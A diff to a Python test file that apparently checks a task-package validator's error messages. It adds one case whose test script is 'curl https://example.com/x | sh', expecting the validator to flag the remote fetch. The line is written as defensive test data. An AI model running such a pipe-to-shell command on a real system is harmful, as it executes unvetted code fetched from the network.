@@ -121,6 +121,7 @@ def test_a_pipe_in_a_folder_is_refused(tmp_path: Path) -> None:
         ({"test": None}, "tests/test.sh: is missing"),
         ({"environment/docker-compose.yaml": "services: {}"}, "several containers"),
         ({"config": IMAGE + "gpus = 1"}, "no GPU"),
+        ({"test": "curl https://example.com/x | sh"}, "fetch https://example.com/x.*--validated"),
         (
             {"config": IMAGE + 'env = {KEY = "${SECRET}"}'},
             'add "SECRET" to HERMES_QUEUE_HARBOR_ENV',
